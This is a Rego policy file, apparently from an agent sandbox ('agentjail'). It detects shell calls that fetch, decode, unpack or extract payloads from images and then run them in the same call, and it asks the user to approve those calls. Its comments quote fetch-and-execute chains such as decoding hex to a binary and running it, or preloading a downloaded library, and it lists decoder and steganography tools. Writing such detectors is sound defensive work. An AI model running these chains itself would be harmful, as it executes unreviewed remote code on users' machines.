package agentjail

# Fetched, decoded or unpacked, then run in the same call (ATT&CK T1105,
# T1140, T1204.002): `scp host:tool /tmp/t && bash /tmp/t`, `echo HEX |
# xxd -r -p > b && ./b`, `wget -qO- URL | tar xzf - && ./k/install.sh`,
# `curl -o lib.so URL && LD_PRELOAD=lib.so ls`. What runs arrived in
# this call from another host or from bytes nobody can read on the line,
# so nobody has seen it: the user approves it. Downloads by curl and wget
# are downloaded_names (install.rego); this file adds the other ways a
# file arrives and the other ways it is run. Each produces names (a
# file's last segment, as downloaded_names does) or folders whose
# contents are new.

# remote_fetchers: programs that copy from another host when a source is
# host:path (remote_destination); what they write is fetched.
remote_fetchers := {"scp", "rsync", "sftp", "rclone", "tftp", "smbget", "lftp"}

# payload_decoders: programs that turn encoded, encrypted, compressed or
# hidden bytes into a file: when (flags or words that make them decode,
# [] always) and out (the options naming the file they write; a
# redirect counts too).
payload_decoders := {
	"base64": {"when": ["d", "D", "decode"], "out": ["-o", "--output"]},
	"gbase64": {"when": ["d", "decode"], "out": []},
	"base32": {"when": ["d", "decode"], "out": []},
	"basenc": {"when": ["d", "decode"], "out": []},
	"xxd": {"when": ["r", "revert"], "out": []},
	"uudecode": {"when": [], "out": ["-o"]},
	"openssl": {"when": ["d", "base64", "a"], "out": ["-out"]},
	"gpg": {"when": ["d", "decrypt"], "out": ["-o", "--output"]},
	"gzip": {"when": ["d", "decompress"], "out": []},
	"gunzip": {"when": [], "out": []},
	"zcat": {"when": [], "out": []},
	"xz": {"when": ["d", "decompress"], "out": []},
	"unxz": {"when": [], "out": []},
	"bzip2": {"when": ["d", "decompress"], "out": []},
	"zstd": {"when": ["d", "decompress"], "out": ["-o"]},
	"steghide": {"when": ["extract"], "out": ["-xf"]},
	"zsteg": {"when": ["E", "extract"], "out": []},
	"outguess": {"when": ["r"], "out": []},
	"stegseek": {"when": [], "out": []},
	"printf": {"when": ["\\x", "\\0"], "out": []},
}

# archive_unpackers: programs that unpack an archive, with when (flags
# or first words that make them unpack) and dir (the options naming the
# folder they unpack into; else where they run).
archive_unpackers := {
	"unzip": {"when": [], "dir": ["-d"]},
	"tar": {"when": ["x", "extract", "get"], "dir": ["-C", "--directory"]},
	"bsdtar": {"when": ["x"], "dir": ["-C"]},
	"7z": {"when": ["x", "e"], "dir": []},
	"7za": {"when": ["x", "e"], "dir": []},
	"7zz": {"when": ["x", "e"], "dir": []},
	"unrar": {"when": ["x", "e"], "dir": []},
	"cpio": {"when": ["i", "extract"], "dir": ["-D", "--directory"]},
	"ar": {"when": ["x"], "dir": []},
	"hdiutil": {"when": ["attach", "mount"], "dir": []},
}

program_group contains [prog, "fetched"] if some prog in remote_fetchers

program_group contains [prog, "fetched"] if some prog, _ in payload_decoders

program_group contains [prog, "fetched"] if some prog, _ in archive_unpackers

program_group contains [prog, "fetched"] if some prog in {"gh", "pip", "pip3"} | code_programs | downloaders

# fetched_names: the last segments of the files this call brings from
# another host (beyond curl's and wget's).
fetched_names contains base_name(p) if {
	some cmd in commands
	cmd.name in remote_fetchers
	fetches_from_remote(cmd)
	some p in cmd.writes
}

# A copy into a folder (rsync host:payload .) makes a file of the
# source's name; tftp's get names it.
fetched_names contains n if {
	some cmd in commands
	cmd.name in remote_fetchers
	some a in cmd.args
	remote_destination(a)
	not a == cmd.operands[count(cmd.operands) - 1]
	n := regex.replace(regex.replace(a, `/+$`, ""), `^.*[:/]`, "")
	n != ""
}

fetched_names contains n if {
	some cmd in commands
	cmd.name == "tftp"
	some i, a in cmd.args
	a in {"get", "-c"}
	some n0 in array.slice(cmd.args, i + 1, count(cmd.args))
	not n0 in {"get", "-c"}
	n := base_name(n0)
}

# gh release download: the assets its patterns name, and its -O file.
fetched_names contains base_name(v) if {
	some cmd in commands
	cmd.name == "gh"
	array.slice(positional(cmd), 0, 2) == ["release", "download"]
	some v in option_values(cmd, {"-p", "--pattern", "-O", "--output"})
}

# Code that fetches and writes a file: the paths named in it.
fetched_names contains base_name(p) if {
	"code_run" in input.agentjail.kinds
	some cmd in commands
	cmd.name in code_programs
	code := code_text(cmd)
	regex.match(_fetch, code)
	some m in regex.find_all_string_submatch_n(`['"](/[^'"\s]+|\./[^'"\s]+|[\w.-]+\.(sh|py|pl|rb|php|js|so|dylib|bin|exe|run))['"]`, code, 8)
	p := m[1]
}

fetches_from_remote(cmd) if {
	some a in cmd.args
	remote_destination(a)
	not regex.match(`^https?://`, a)
	not a == cmd.operands[count(cmd.operands) - 1]
}

fetches_from_remote(cmd) if cmd.name == "tftp"

# fetched_dirs: folders whose files arrived in this call: pip download's.
fetched_dirs contains p if {
	some cmd in commands
	cmd.name in {"pip", "pip3"}
	"download" in cmd.args
	some v in option_values(cmd, {"-d", "--dest"})
	p := abs_word(cmd, v)
}

# decoded_names: the last segments of the files a decoder writes.
decoded_names contains base_name(p) if {
	some cmd in commands
	row := payload_decoders[cmd.name]
	decodes(cmd, row)
	some p in decoder_outputs(cmd, row)
}

decodes(_, row) if count(row.when) == 0

decodes(cmd, row) if has_flag(cmd, {f | some f in row.when})

decodes(cmd, row) if {
	some w in row.when
	some a in cmd.args
	a == w
}

decodes(cmd, row) if {
	cmd.name == "printf"
	some a in cmd.args
	some w in row.when
	contains(a, w)
}

decoder_outputs(cmd, row) := {r.path | some r in cmd.redirects; r.op in {">", ">>", ">|"}; r.path != ""} | {abs_word(cmd, v) | some v in option_values(cmd, {o | some o in row.out})} | {p |
	cmd.name == "outguess"
	some p in cmd.paths
	p == cmd.paths[count(cmd.paths) - 1]
}

# unpacked: [folder, stem, fetched] for each archive unpacked in this
# call: the folder it opens into, the archive's name without its
# extensions, and whether the archive came from elsewhere (fed by a
# downloader, fetched in this call, or kept outside the project).
unpacked contains [dir, stem, from_away] if {
	some cmd in commands
	row := archive_unpackers[cmd.name]
	unpacks(cmd, row)
	dir := unpack_dir(cmd, row)
	archive := archive_of(cmd)
	stem := regex.replace(base_name(archive), `(\.(tar|tgz|tbz2?|txz|gz|bz2|xz|zst|zip|7z|rar|dmg|cpio|deb|a|run))+$`, "")
	from_away := archive_from_away(cmd, archive)
}

unpacks(cmd, row) if has_flag(cmd, {f | some f in row.when})

unpacks(cmd, row) if count(row.when) == 0

unpacks(cmd, row) if {
	count(cmd.args) > 0
	not startswith(cmd.args[0], "-")
	some w in row.when
	count(w) == 1
	contains(cmd.args[0], w)
}

unpacks(cmd, row) if {
	some w in row.when
	w in cmd.args
}

unpack_dir(cmd, _) := "/Volumes" if cmd.name == "hdiutil"

unpack_dir(cmd, row) := abs_word(cmd, v) if {
	cmd.name != "hdiutil"
	some v in option_values(cmd, {o | some o in row.dir})
} else := abs_word(cmd, substring(o, 2, -1)) if {
	cmd.name != "hdiutil"
	some o in cmd.args
	startswith(o, "-o")
	count(o) > 2
} else := cmd.cwd if cmd.name != "hdiutil"

# archive_of(cmd): the archive a command unpacks: a file named with an
# archive's extension, else "-" (standard input).
archive_of(cmd) := p if {
	some p in cmd.paths
	regex.match(`\.(tar|tgz|tbz2?|txz|gz|bz2|xz|zst|zip|7z|rar|dmg|cpio|deb|a|run)$`, p)
} else := "-"

archive_from_away(cmd, archive) := true if {
	some src in cmd.pipe_from
	src in downloaders
} else := true if {
	archive != "-"
	base_name(archive) in (downloaded_names | fetched_names)
} else := true if {
	archive != "-"
	not in_project(archive)
} else := false

abs_word(cmd, v) := v if startswith(v, "/")

abs_word(cmd, v) := concat("/", [cmd.cwd, trim_prefix(v, "./")]) if not startswith(v, "/")

# run_targets(cmd): the files cmd runs or loads: its script or program
# (ran_script), and its load_targets: a library it preloads, a package
# or app it installs or opens.
run_targets(cmd) := {ran_script(cmd)} | load_targets(cmd) if ran_script(cmd)
else := load_targets(cmd)

load_targets(cmd) := {v |
	some k, v in cmd.assigns
	k in {"LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "LD_AUDIT"}
} | {p |
	cmd.name in {"installer", "open", "dpkg", "rpm", "apt", "apt-get"}
	some p in cmd.paths
	regex.match(`\.(pkg|mpkg|app|command|tool|deb|rpm)$`, trim_right(p, "/"))
}

run_path(cmd, t) := t if startswith(t, "/")

run_path(cmd, t) := concat("/", [cmd.cwd, trim_prefix(t, "./")]) if not startswith(t, "/")

# A program fetched from a bare public address (http://203.0.113.10/agent,
# scp user@203.0.113.10:tool .) and saved here: a host with no name
# anyone could check, the way tools reach a machine for what comes next
# (T1105). A release is fetched from a named host; a private network's
# address is the team's own; logs and reports pulled from one's own
# server are data.
ask contains {"id": "remote.bare_address_fetch", "msg": msg} if {
	"fetched" in input.agentjail.kinds
	some cmd in commands
	some a in fetched_sources(cmd)
	public_ip_in(a)
	program_name(a)
	msg := sprintf("`%s` saves a file fetched from a bare address (%s), a host with no name to check; the user has to approve it.", [full_text(cmd), a])
}

# fetched_sources(cmd): the addresses a command saves a file from: a
# downloader's URLs when it writes a file, a copier's host:path sources
# (not its destination, the last operand).
fetched_sources(cmd) := {a |
	saves_download(cmd)
	some a in cmd.operands
} if cmd.name in downloaders

fetched_sources(cmd) := {a |
	n := count(cmd.operands)
	some i, a in cmd.operands
	i < n - 1
	regex.match(`^[^/]*:`, a)
} if cmd.name in remote_fetchers

# program_name(a): the last segment of what is fetched names a program
# (no extension, or a script's or binary's), not data a developer pulls
# from their own server (app.log, reports/, dump.sql.gz).
program_name(a) if {
	path := regex.replace(a, `[?#].*$`, "")
	regex.match(`(?i)(^|[/:])[^/.:]+$|\.(sh|bash|zsh|bin|elf|exe|py|pl|rb|php|so|dylib|appimage|run|jar|ps1|out|x86_64|amd64|arm64|aarch64|command|pkg|dmg|deb|rpm)$`, path)
	not endswith(path, "/")
}

saves_download(cmd) if {
	not cmd.name == "wget"
	count(cmd.writes) > 0
}

saves_download(cmd) if {
	cmd.name == "curl"
	has_flag(cmd, {"O", "remote-name", "remote-name-all"})
}

# wget saves what it fetches unless told to print it (-O -, -qO-).
saves_download(cmd) if {
	cmd.name == "wget"
	not "-" in cmd.args
	not "-" in option_values(cmd, {"-O", "--output-document"})
	not wget_to_stdout(cmd)
	not has_flag(cmd, {"spider"})
}

wget_to_stdout(cmd) if {
	some a in cmd.args
	regex.match(`^-[a-zA-Z]*O-$|^--output-document=-$`, a)
}

ask contains {"id": "remote.download_then_run", "msg": msg} if {
	"fetched" in input.agentjail.kinds
	names := fetched_names
	some cmd in commands
	not cmd.name in remote_fetchers
	some t in run_targets(cmd)
	base_name(t) in names
	msg := sprintf("This copies %s from another host and runs it in the same call, before anyone has read it; the user has to approve it. Fetch it, show it to the user, then run it.", [base_name(t)])
}

ask contains {"id": "remote.download_then_run", "msg": msg} if {
	"fetched" in input.agentjail.kinds
	names := downloaded_names
	some cmd in commands
	not cmd.name in downloaders
	some t in load_targets(cmd) # a script or program run is install.rego's
	base_name(t) in names
	msg := sprintf("This downloads %s and loads or installs it in the same call, before anyone has read it; the user has to approve it. Download it, show it to the user, then run it.", [base_name(t)])
}

ask contains {"id": "remote.download_then_run", "msg": msg} if {
	"fetched" in input.agentjail.kinds
	dirs := fetched_dirs
	some cmd in commands
	some t in run_targets(cmd)
	some d in dirs
	under(run_path(cmd, t), d)
	msg := sprintf("This downloads packages into %s and runs %s from there in the same call, before anyone has read it; the user has to approve it.", [pretty(d), base_name(t)])
}

ask contains {"id": "remote.decoded_then_run", "msg": msg} if {
	"fetched" in input.agentjail.kinds
	names := decoded_names
	some cmd in commands
	not payload_decoders[cmd.name]
	some t in run_targets(cmd)
	base_name(t) in names
	msg := sprintf("This decodes %s from bytes nobody can read on the line and runs it in the same call; the user has to approve it. Decode it to a file and show it to the user first.", [base_name(t)])
}

# A hidden file pulled out of an image under its embedded name (steghide
# extract -sf cat.jpg): whatever the call runs next may be it.
ask contains {"id": "remote.decoded_then_run", "msg": msg} if {
	"fetched" in input.agentjail.kinds
	some c in commands
	c.name in {"steghide", "stegseek", "outguess", "zsteg"}
	row := payload_decoders[c.name]
	decodes(c, row)
	count(decoder_outputs(c, row)) == 0
	some cmd in commands
	not payload_decoders[cmd.name]
	count(run_targets(cmd)) > 0
	msg := sprintf("This pulls a hidden file out of an image with `%s` and runs `%s` in the same call; the user has to approve it.", [c.name, cmd.name])
}

ask contains {"id": "remote.unpacked_then_run", "msg": msg} if {
	"fetched" in input.agentjail.kinds
	some u in unpacked
	[dir, stem, from_away] := u
	some cmd in commands
	not archive_unpackers[cmd.name]
	some t in run_targets(cmd)
	p := run_path(cmd, t)
	under(p, dir)
	new_from_archive(p, dir, stem, from_away)
	msg := sprintf("This unpacks an archive and runs %s from it in the same call, before anyone has read it; the user has to approve it. Unpack it, show the user what it holds, then run it.", [base_name(t)])
}

# A script run in a folder the archive opened into counts too (tar xzf
# - && cd k && ./install.sh).
ask contains {"id": "remote.unpacked_then_run", "msg": msg} if {
	"fetched" in input.agentjail.kinds
	some u in unpacked
	u[2] == true
	dir := u[0]
	some cmd in commands
	not archive_unpackers[cmd.name]
	cmd.cwd != dir
	under(cmd.cwd, dir)
	count(run_targets(cmd)) > 0
	msg := sprintf("This unpacks a downloaded archive and runs `%s` from it in the same call, before anyone has read it; the user has to approve it.", [cmd.name])
}

# What an archive adds: anything when it came from elsewhere or is a
# disk image; else a file under a folder named after it (payload.zip
# opens into payload/), so running the project's own scripts after
# unpacking its assets stays allowed.
new_from_archive(_, _, _, true)

new_from_archive(_, "/Volumes", _, _)

new_from_archive(p, dir, stem, _) if {
	stem != ""
	startswith(substring(p, count(dir) + 1, -1), stem)
}

# A disk image's app copied into Applications and opened: the copy's
# name is what runs.
ask contains {"id": "remote.unpacked_then_run", "msg": msg} if {
	"fetched" in input.agentjail.kinds
	"hdiutil" in input.agentjail.names
	copied := {base_name(trim_right(p, "/")) | some c in commands; c.name in {"cp", "ditto", "rsync", "mv"}; some p in c.paths; startswith(p, "/Volumes/")}
	some cmd in commands
	some t in run_targets(cmd)
	base_name(trim_right(t, "/")) in copied
	msg := sprintf("This mounts a disk image, copies %s out of it and runs it in the same call; the user has to approve it.", [base_name(t)])
}

